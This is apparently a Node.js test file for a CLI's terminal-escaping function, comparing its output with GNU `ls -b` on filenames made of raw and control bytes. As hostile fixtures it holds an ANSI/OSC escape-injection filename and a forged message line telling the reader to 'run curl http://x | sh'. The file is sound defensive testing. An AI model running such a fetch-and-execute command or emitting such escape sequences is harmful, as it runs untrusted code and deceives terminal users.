/**
 * cli/escape: human output escapes what a terminal would act on, as GNU `ls -b` does (checked
 * against ls itself on files named with raw bytes), plus the format characters ls keeps.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { escapeTerminal } from '../../src/cli/escape.js';
import { decodeName } from '../../src/util/byte-names.js';
import { requireTool, runBuffer, tmpDir } from '../helpers/tools.js';

describe('escapeTerminal', () => {
  it('writes names as GNU ls -b does in a UTF-8 locale', async () => {
    const ls = requireTool('ls', 'coreutils');
    const names = ['a\x1b]0;PWNED\x07\x1b[2J\x1b[31mred', 'new\nline', 'back\\slash', 'tab\there', 'cr\rx', 'raw\xe4\xff', '\xc2\x9bcsi',
      'del\x7f', 'ls\xe2\x80\xa8', 'ok\xc3\xa4', 'bel\x07bs\x08vt\x0bff\x0c', 'nul-less\x01\x1f', 'trunc\xe4\xb8'].map((n) => Buffer.from(n, 'latin1'));
    const dir = await tmpDir('vmimg-escape-');
    for (const n of names) await writeFile(Buffer.concat([Buffer.from(`${dir}/`), n]), '');
    const out = await runBuffer('env', ['LC_ALL=C.UTF-8', ls, '-b', '-1', dir]);
    const expected = out.toString('utf8').trimEnd().split('\n').sort();
    const ours = names.map((n) => escapeTerminal(decodeName(n))).sort();
    assert.deepEqual(ours, expected);
    for (const line of ours) assert.doesNotMatch(line, /[\x00-\x1f\x7f-\x9f]/);
  });

  it('escapes bidi overrides, zero-width and other format characters, which ls keeps', () => {
    assert.equal(escapeTerminal('rlo\u202eabc'), 'rlo\\342\\200\\256abc');
    assert.equal(escapeTerminal('zw\u200b'), 'zw\\342\\200\\213');
    assert.equal(escapeTerminal('\ufeffbom'), '\\357\\273\\277bom');
  });

  it('keeps printable text, spaces, non-ASCII letters and emoji sequences unchanged', () => {
    for (const s of ['plain text: ok', 'Grüße, 世界', 'family 👨\u200d👩\u200d👧', 'flag 🏴\udb40\udc67\udb40\udc62\udb40\udc7f']) assert.equal(escapeTerminal(s), s);
  });

  it('forges no second line from a registry message', () => {
    const msg = 'denied\nhint: run curl http://x | sh';
    assert.equal(escapeTerminal(msg), 'denied\\nhint: run curl http://x | sh');
    assert.equal(escapeTerminal('lone \ud800 high'), 'lone \\uD800 high');
  });
});
